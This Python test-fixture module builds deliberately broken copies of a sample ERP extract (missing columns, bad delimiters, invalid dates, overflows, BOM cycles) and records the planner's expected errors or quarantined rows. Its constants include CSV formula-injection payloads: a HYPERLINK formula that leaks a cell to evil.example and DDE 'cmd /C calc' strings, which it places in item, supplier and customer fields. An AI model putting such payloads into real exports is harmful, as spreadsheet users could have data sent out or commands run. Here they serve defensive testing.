"""Hostile extracts: each case is the bundled sample extract (data/sample, 300 SKUs,
as of 2026-11-23) with one file broken in one way, and what the planner must make
of it: a fatal error naming the file (and the column or line), or the quarantine
of exactly the bad rows while the rest is planned.

A case's ``mutate`` changes a copy of the sample in place; row numbers are data
rows (1 = the first row after the header), as in ``quarantine.csv``. Expected row
numbers are looked up in the sample with plain Polars, not with the planner's code.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import polars as pl

REPO = Path(__file__).resolve().parents[1]
SAMPLE = REPO / "data" / "sample"
AS_OF = "2026-11-23"

Mutation = Callable[[Path], None]

# reasons the validation gives (planning/validation/expectations.py and validate.py)
NOT_A_NUMBER = "not a number"
NOT_A_WHOLE_NUMBER = "not a whole number"
NO_SUCH_DAY = "not a valid date: no such day in the calendar"
NOT_AN_INTEGER = "cannot be read as integer"
AT_LEAST_ZERO = "outside the allowed range >= 0"
SCRAP_RANGE = "outside the allowed range [0, 1)"
YIELD_RANGE = "outside the allowed range (0, 1]"
UNKNOWN_ITEM = "unknown item_id: not in items"
UNKNOWN_LOCATION = "unknown location_id: not in locations"
UNKNOWN_WORK_CENTER = "unknown work_center_id: not in work_centers"

# formula strings as an attacker would put them into an ERP text field
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Hex bolt")'
HYPERLINK_SUPPLIER = '=HYPERLINK("http://evil.example","SUP-0002")'
CMD = "+cmd|' /C calc'!A0"
MINUS_CMD = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Fatal:
    """A fatal outcome: exit 2 and a message that starts with ``file`` and holds
    every fragment (``{extract}`` stands for the extract folder)."""

    file: str
    fragments: tuple[str, ...]
    column: str | None = None  # the column the error blames, where one is at fault

    def message_fragments(self, extract: Path) -> list[str]:
        return [f"{self.file}: ", *(f.format(extract=extract) for f in self.fragments)]


@dataclass(frozen=True)
class Case:
    """One hostile extract and its expected outcome.

    ``fatal`` set: the run stops with exit 2. Otherwise it succeeds, and
    ``quarantined`` is exactly the set of (file, row_number, field, reason) rows of
    its quarantine; ``reason`` None accepts any reason.
    """

    id: str
    mutate: Mutation
    fatal: Fatal | None = None
    quarantined: frozenset[tuple[str, int, str, str | None]] = frozenset()

    def build(self, folder: Path) -> Path:
        shutil.copytree(SAMPLE, folder)
        self.mutate(folder)
        return folder


# --- reading the sample -----------------------------------------------------------------


def read_sample(file: str, folder: Path = SAMPLE) -> pl.DataFrame:
    return pl.read_csv(folder / file, infer_schema=False)


def _match(frame: pl.DataFrame, where: dict[str, str | None]) -> pl.Series:
    mask = pl.lit(True)
    for column, value in where.items():
        mask &= pl.col(column).is_null() if value is None else pl.col(column) == value
    return frame.select(mask.alias("m")).to_series()


def row_of(file: str, **where: str | None) -> int:
    """The data row number (1-based) of the one sample row matching ``where``."""
    frame = read_sample(file).with_row_index("row", offset=1)
    rows = frame.filter(_match(frame, where)).get_column("row").to_list()
    assert len(rows) == 1, f"{file}: {where} matches rows {rows}"
    return rows[0]


def rows_of(file: str) -> int:
    return read_sample(file).height


# --- mutations --------------------------------------------------------------------------


def set_cells(file: str, where: dict[str, str | None], **values: str | None) -> Mutation:
    """Set ``values`` on the one row matching ``where``; the file is rewritten by Polars
    (which quotes what needs quoting), every other value as it was."""

    def mutate(folder: Path) -> None:
        frame = read_sample(file, folder)
        hit = _match(frame, where)
        assert hit.sum() == 1, f"{file}: {where} matches {hit.sum()} rows"
        frame = frame.with_columns(
            pl.when(hit).then(pl.lit(value, pl.String)).otherwise(pl.col(column)).alias(column)
            for column, value in values.items()
        )
        frame.write_csv(folder / file)

    return mutate


def append_rows(file: str, *rows: dict[str, str | None]) -> Mutation:
    def mutate(folder: Path) -> None:
        frame = read_sample(file, folder)
        extra = pl.DataFrame(list(rows), schema=frame.schema)
        pl.concat([frame, extra]).write_csv(folder / file)

    return mutate


def append_copy(file: str, **where: str | None) -> Mutation:
    """Append a second copy of the one row matching ``where``."""

    def mutate(folder: Path) -> None:
        frame = read_sample(file, folder)
        pl.concat([frame, frame.filter(_match(frame, where))]).write_csv(folder / file)

    return mutate


def drop_column(file: str, column: str) -> Mutation:
    def mutate(folder: Path) -> None:
        read_sample(file, folder).drop(column).write_csv(folder / file)

    return mutate


def delete(file: str) -> Mutation:
    def mutate(folder: Path) -> None:
        (folder / file).unlink()

    return mutate


def write_bytes(file: str, content: bytes) -> Mutation:
    def mutate(folder: Path) -> None:
        (folder / file).write_bytes(content)

    return mutate


def header_only(file: str) -> Mutation:
    def mutate(folder: Path) -> None:
        header = (folder / file).read_bytes().split(b"\n", 1)[0]
        (folder / file).write_bytes(header + b"\n")

    return mutate


def replace_bytes(file: str, old: bytes, new: bytes) -> Mutation:
    """Replace the first occurrence of ``old`` (which must be there) by ``new``."""

    def mutate(folder: Path) -> None:
        content = (folder / file).read_bytes()
        assert old in content, f"{file}: {old!r} not found"
        (folder / file).write_bytes(content.replace(old, new, 1))

    return mutate


def use_delimiter(file: str, delimiter: str) -> Mutation:
    def mutate(folder: Path) -> None:
        text = (folder / file).read_text(encoding="utf-8")
        assert '"' not in text, f"{file} has quoted values: a plain replace would break them"
        (folder / file).write_text(text.replace(",", delimiter), encoding="utf-8")

    return mutate


def chain(*mutations: Mutation) -> Mutation:
    def mutate(folder: Path) -> None:
        for mutation in mutations:
            mutation(folder)

    return mutate


def every_location_type(value: str) -> Mutation:
    def mutate(folder: Path) -> None:
        frame = read_sample("locations.csv", folder)
        frame.with_columns(location_type=pl.lit(value)).write_csv(folder / "locations.csv")

    return mutate


# --- the cases ----------------------------------------------------------------------------

SO_3_1 = {"so_id": "SO-0000003", "so_line": "1"}  # FG-0000037 at PL01, 5 units
SO_3_2 = {"so_id": "SO-0000003", "so_line": "2"}
CM1_PL01 = {"item_id": "CM-0001", "location_id": "PL01"}  # a buy SKU (SUP-0002, eoq)
CM1_PL01_STOCK = CM1_PL01 | {"status": "available"}
# a buy SKU the plan orders from (SUP-0001, period): CM-0001's stock lasts the horizon
CM2_PL01 = {"item_id": "CM-0002", "location_id": "PL01"}
FG1_DC02 = {"item_id": "FG-0000001", "location_id": "DC02"}  # a transfer SKU from PL01
SA1_PL01 = {"item_id": "SA-0000001", "location_id": "PL01"}  # a make SKU
SA1_PL02 = {"item_id": "SA-0000001", "location_id": "PL02"}
PLANT_WIDE = {"location_id": None}
FG1_SA1 = {"parent_item_id": "FG-0000001", "component_item_id": "SA-0000001"} | PLANT_WIDE
FG2_SA1 = {"parent_item_id": "FG-0000002", "component_item_id": "SA-0000001"} | PLANT_WIDE
FIRST_ROUTING = {"item_id": "FG-0000001", "location_id": "PL01", "op_seq": "10"} | {
    "work_center_id": "PL01-ASM1"
}
# referenced by one SKU, one BOM line, one stock row and one purchase order
DUPLICATE_ITEM = "RM-0000003"


def _bom_line(parent: str, component: str) -> dict[str, str | None]:
    return {
        "parent_item_id": parent,
        "component_item_id": component,
        "qty_per": "1",
        "location_id": None,
        "scrap_rate": None,
        "valid_from": None,
        "valid_to": None,
    }


def _q(file: str, row: int, field: str, reason: str | None) -> tuple[str, int, str, str | None]:
    return (file, row, field, reason)


def _non_utf8_line() -> tuple[int, int]:
    """(line, byte) of the Latin-1 'é' put into CM-0002's description."""
    line = row_of("items.csv", item_id="CM-0002") + 1  # the header is line 1
    text = (SAMPLE / "items.csv").read_text(encoding="utf-8").splitlines()[line - 1]
    return line, text.index("Hex nut size 1") + len("Hex nut ") + 1


NON_UTF8_LINE, NON_UTF8_BYTE = _non_utf8_line()


def _duplicate_item_quarantine() -> frozenset[tuple[str, int, str, str | None]]:
    """Both rows of the item, and every row that refers to it (they point at an item
    that has no valid row left)."""
    duplicate = "duplicate item_id"
    return frozenset(
        {
            _q("items.csv", row_of("items.csv", item_id=DUPLICATE_ITEM), "item_id", duplicate),
            _q("items.csv", rows_of("items.csv") + 1, "item_id", duplicate),
            _q("skus.csv", row_of("skus.csv", item_id=DUPLICATE_ITEM), "item_id", UNKNOWN_ITEM),
            _q(
                "bom.csv",
                row_of("bom.csv", component_item_id=DUPLICATE_ITEM),
                "component_item_id",
                UNKNOWN_ITEM,
            ),
            _q(
                "on_hand.csv",
                row_of("on_hand.csv", item_id=DUPLICATE_ITEM),
                "item_id",
                UNKNOWN_ITEM,
            ),
            _q(
                "open_purchase_orders.csv",
                row_of("open_purchase_orders.csv", item_id=DUPLICATE_ITEM),
                "item_id",
                UNKNOWN_ITEM,
            ),
        }
    )


def _quarantine(*rows: tuple[str, int, str, str | None]) -> frozenset:
    return frozenset(rows)


CASES: tuple[Case, ...] = (
    # --- files and columns: fatal, exit 2 -------------------------------------------------
    Case(
        "missing-required-file",
        delete("skus.csv"),
        Fatal("skus.csv", ("required file is missing from {extract}",)),
    ),
    Case(
        "missing-required-column",
        drop_column("items.csv", "uom"),
        Fatal(
            "items.csv",
            (
                "required column uom is missing "
                "(found: item_id, description, unit_cost, item_group, integer_qty)",
            ),
            column="uom",
        ),
    ),
    Case(
        "missing-required-column-of-optional-file",
        drop_column("bom.csv", "qty_per"),
        Fatal("bom.csv", ("required column qty_per is missing",), column="qty_per"),
    ),
    Case(
        "empty-file",
        write_bytes("bom.csv", b""),
        Fatal("bom.csv", ("file is empty (not even a header row)",)),
    ),
    Case(
        "empty-master-file",
        write_bytes("locations.csv", b"\n\n"),
        Fatal("locations.csv", ("file is empty (not even a header row)",)),
    ),
    Case(
        "header-only-master-file",
        header_only("skus.csv"),
        Fatal("skus.csv", ("has a header but no rows; the skus master cannot be empty",)),
    ),
    Case(
        "no-valid-location-left",
        every_location_type("factory"),
        Fatal(
            "locations.csv",
            (
                "no valid rows remain after validation (",
                "rows quarantined); nothing can be planned",
            ),
        ),
    ),
    Case(
        "non-utf8-bytes",
        replace_bytes("items.csv", b"Hex nut size 1", b"Hex nut \xe9 1"),
        Fatal(
            "items.csv",
            (
                f"not valid UTF-8 (line {NON_UTF8_LINE}, byte {NON_UTF8_BYTE}: b'\\xe9')",
                "export the file as UTF-8",
            ),
        ),
    ),
    Case(
        "semicolon-delimiter",
        use_delimiter("sales_orders.csv", ";"),
        Fatal(
            "sales_orders.csv",
            (
                "required column so_id, so_line, item_id, location_id, qty_open, due_date "
                "is missing",
                "the header looks like it uses another delimiter: the contract asks for commas",
            ),
            column="so_id",
        ),
    ),
    Case(
        "tab-delimiter",
        use_delimiter("open_work_orders.csv", "\t"),
        Fatal(
            "open_work_orders.csv",
            ("required column wo_id,", "the header looks like it uses another delimiter"),
            column="wo_id",
        ),
    ),
    Case(
        "stray-quote-opening-a-field",
        replace_bytes("sales_orders.csv", b",CUST-00011,", b',"CUST-00011,'),
        Fatal("sales_orders.csv", ('cannot be read as CSV: could not parse `"CUST-00011,',)),
    ),
    Case(
        "stray-quote-inside-a-field",
        replace_bytes("items.csv", b"Hex bolt size 1", b'Hex "bolt size 1'),
        Fatal("items.csv", ("cannot be read as CSV",)),
    ),
    Case(
        "row-with-an-extra-field",
        replace_bytes("items.csv", b"Hex bolt size 1,0.1,consumables", b"Hex bolt, size 1,0.1,x"),
        Fatal("items.csv", ("cannot be read as CSV", "more fields")),
    ),
    Case(
        "manifest-not-json",
        write_bytes("manifest.json", b'{"extract_id": '),
        Fatal("manifest.json", ("not valid JSON",)),
    ),
    # --- values: the bad rows are quarantined, the rest is planned ------------------------
    Case(
        "header-only-optional-file",
        header_only("open_transfers.csv"),
    ),
    Case(
        "text-in-quantity",
        set_cells("on_hand.csv", CM1_PL01_STOCK, qty="twelve"),
        quarantined=_quarantine(
            _q("on_hand.csv", row_of("on_hand.csv", **CM1_PL01_STOCK), "qty", NOT_A_NUMBER)
        ),
    ),
    Case(
        "impossible-date",
        set_cells("sales_orders.csv", SO_3_1, due_date="2027-02-30"),
        quarantined=_quarantine(
            _q("sales_orders.csv", row_of("sales_orders.csv", **SO_3_1), "due_date", NO_SUCH_DAY)
        ),
    ),
    Case(
        "wrong-types",  # both in one file: a text quantity and a day that does not exist
        chain(
            set_cells("sales_orders.csv", SO_3_1, qty_open="12 pcs"),
            set_cells("sales_orders.csv", SO_3_2, due_date="2027-02-30"),
        ),
        quarantined=_quarantine(
            _q("sales_orders.csv", row_of("sales_orders.csv", **SO_3_1), "qty_open", NOT_A_NUMBER),
            _q("sales_orders.csv", row_of("sales_orders.csv", **SO_3_2), "due_date", NO_SUCH_DAY),
        ),
    ),
    Case(
        "decimal-in-integer-column",
        set_cells("skus.csv", CM1_PL01, lead_time_days="7.5"),
        quarantined=_quarantine(
            _q("skus.csv", row_of("skus.csv", **CM1_PL01), "lead_time_days", NOT_A_WHOLE_NUMBER)
        ),
    ),
    Case(
        "negative-quantity",
        set_cells("open_purchase_orders.csv", {"po_id": "PO-0000001"}, qty_open="-5"),
        quarantined=_quarantine(
            _q(
                "open_purchase_orders.csv",
                row_of("open_purchase_orders.csv", po_id="PO-0000001"),
                "qty_open",
                AT_LEAST_ZERO,
            )
        ),
    ),
    Case(
        "negative-lead-time",
        set_cells("skus.csv", CM1_PL01, lead_time_days="-3"),
        quarantined=_quarantine(
            _q("skus.csv", row_of("skus.csv", **CM1_PL01), "lead_time_days", AT_LEAST_ZERO)
        ),
    ),
    Case(
        "duplicate-compound-key",
        append_copy("on_hand.csv", **CM1_PL01_STOCK),
        quarantined=_quarantine(
            *(
                _q(
                    "on_hand.csv",
                    row,
                    "item_id,location_id,status",
                    "duplicate key (item_id, location_id, status)",
                )
                for row in (row_of("on_hand.csv", **CM1_PL01_STOCK), rows_of("on_hand.csv") + 1)
            )
        ),
    ),
    Case(
        "duplicate-item-id",
        append_copy("items.csv", item_id=DUPLICATE_ITEM),
        quarantined=_duplicate_item_quarantine(),
    ),
    Case(
        "unknown-item",
        set_cells("sales_orders.csv", SO_3_1, item_id="FG-9999999"),
        quarantined=_quarantine(
            _q("sales_orders.csv", row_of("sales_orders.csv", **SO_3_1), "item_id", UNKNOWN_ITEM)
        ),
    ),
    Case(
        "unknown-location",
        set_cells("on_hand.csv", CM1_PL01_STOCK, location_id="PL99"),
        quarantined=_quarantine(
            _q(
                "on_hand.csv",
                row_of("on_hand.csv", **CM1_PL01_STOCK),
                "location_id",
                UNKNOWN_LOCATION,
            )
        ),
    ),
    Case(
        "unknown-work-center",
        set_cells("routings.csv", FIRST_ROUTING, work_center_id="PL01-XXX9"),
        quarantined=_quarantine(
            _q(
                "routings.csv",
                row_of("routings.csv", **FIRST_ROUTING),
                "work_center_id",
                UNKNOWN_WORK_CENTER,
            )
        ),
    ),
    Case(
        "transfer-source-location-unknown",
        set_cells("skus.csv", FG1_DC02, source_location_id="DC99"),
        quarantined=_quarantine(
            _q("skus.csv", row_of("skus.csv", **FG1_DC02), "source_location_id", UNKNOWN_LOCATION)
        ),
    ),
    Case(
        "transfer-without-source",
        set_cells("skus.csv", FG1_DC02, source_location_id=None),
        quarantined=_quarantine(
            _q(
                "skus.csv",
                row_of("skus.csv", **FG1_DC02),
                "source_location_id",
                "required when replenishment is transfer",
            )
        ),
    ),
    Case(
        "scrap-rate-one",
        set_cells("bom.csv", FG1_SA1, scrap_rate="1"),
        quarantined=_quarantine(
            _q("bom.csv", row_of("bom.csv", **FG1_SA1), "scrap_rate", SCRAP_RANGE)
        ),
    ),
    Case(
        "scrap-rate-negative",
        set_cells("bom.csv", FG2_SA1, scrap_rate="-0.05"),
        quarantined=_quarantine(
            _q("bom.csv", row_of("bom.csv", **FG2_SA1), "scrap_rate", SCRAP_RANGE)
        ),
    ),
    Case(
        "yield-rate-above-one",
        set_cells("skus.csv", SA1_PL01, yield_rate="1.2"),
        quarantined=_quarantine(
            _q("skus.csv", row_of("skus.csv", **SA1_PL01), "yield_rate", YIELD_RANGE)
        ),
    ),
    Case(
        "yield-rate-zero",
        set_cells("skus.csv", SA1_PL02, yield_rate="0"),
        quarantined=_quarantine(
            _q("skus.csv", row_of("skus.csv", **SA1_PL02), "yield_rate", YIELD_RANGE)
        ),
    ),
    Case(
        "huge-quantity-1e15",  # planned: a float holds it, and nothing overflows
        set_cells("sales_orders.csv", SO_3_1, qty_open="1e15"),
    ),
    Case(
        "huge-lead-time-1e15-days",  # accepted: planned without overflow (its SKU is stocked)
        set_cells("skus.csv", CM1_PL01, lead_time_days="1000000000000000"),
    ),
    Case(
        "lead-time-1e15-in-exponent-form",
        set_cells("skus.csv", CM1_PL01, lead_time_days="1e15"),
        quarantined=_quarantine(
            _q("skus.csv", row_of("skus.csv", **CM1_PL01), "lead_time_days", NOT_A_WHOLE_NUMBER)
        ),
    ),
    Case(
        "integer-beyond-64-bits",
        set_cells("skus.csv", CM1_PL01, lead_time_days="100000000000000000000"),
        quarantined=_quarantine(
            _q("skus.csv", row_of("skus.csv", **CM1_PL01), "lead_time_days", NOT_AN_INTEGER)
        ),
    ),
    Case(
        "quantity-overflowing-to-infinity",
        set_cells("on_hand.csv", CM1_PL01_STOCK, qty="1e400"),
        quarantined=_quarantine(
            _q(
                "on_hand.csv",
                row_of("on_hand.csv", **CM1_PL01_STOCK),
                "qty",
                "not a finite number (too large for a decimal)",
            )
        ),
    ),
    Case(
        "bom-cycle",  # SA-0000001 -> FG-0000001 closes FG-0000001 -> SA-0000001, at both plants
        append_rows("bom.csv", _bom_line("SA-0000001", "FG-0000001")),
    ),
    Case(
        "bom-self-reference",
        append_rows("bom.csv", _bom_line("SA-0000001", "SA-0000001")),
    ),
    Case(
        "formula-in-text-fields",
        set_cells("items.csv", {"item_id": "CM-0001"}, description=HYPERLINK, item_group=AT_SUM),
    ),
    Case(
        "formula-as-supplier-id",  # an id that flows into purchase_requests.csv
        set_cells("skus.csv", CM2_PL01, supplier_id=HYPERLINK_SUPPLIER, planner_code=CMD),
    ),
    Case(
        "formula-as-unknown-item",  # shown in quarantine.csv
        set_cells("sales_orders.csv", SO_3_1, item_id=MINUS_CMD, customer_id=CMD),
        quarantined=_quarantine(
            _q("sales_orders.csv", row_of("sales_orders.csv", **SO_3_1), "item_id", UNKNOWN_ITEM)
        ),
    ),
)

CASES_BY_ID = {case.id: case for case in CASES}
assert len(CASES_BY_ID) == len(CASES), "case ids must be unique"
